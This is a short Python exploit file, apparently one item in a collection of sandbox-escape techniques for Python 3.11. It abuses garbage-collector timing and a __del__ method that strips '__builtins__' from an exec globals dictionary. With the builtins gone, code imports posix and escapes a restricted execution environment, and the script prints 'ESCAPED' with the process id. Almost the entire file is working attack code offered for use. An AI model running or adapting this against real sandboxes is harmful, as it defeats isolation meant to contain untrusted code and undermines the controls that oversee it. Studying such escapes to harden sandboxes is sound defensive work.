# technique: exec without builtins below a trusted frame; the garbage collector runs between the sandbox' care and CPython's look, and our __del__ takes the builtins out again
# goal: builtins
# python: 3.11
# source: own analysis: until 3.11 any allocation of a container may collect
import copy
import functools

code = compile('import posix\npid = posix.getpid()', 'x', 'exec')


class Remover:
    def __del__(self):
        g.pop('__builtins__', None)


class Carrier:
    def __reduce_ex__(self, version):
        return hook, ()


def attempt(n):
    global g, hook
    g = {}
    hook = functools.partial(exec, code, g)
    r = Remover()
    r.me = r
    del r
    pad = [[] for i in range(n)]
    # the free lists are empty then: each container is allocated, and counted
    drain = [[(i,), (i, i), (i, i, i), {i: i}, [i]] for i in range(100)]
    copy.copy(carrier)
    return pad, drain


carrier = Carrier()
for n in range(750):
    try:
        attempt(n)
        break
    except ImportError:
        pass
print('ESCAPED pid=%d' % g['pid'])
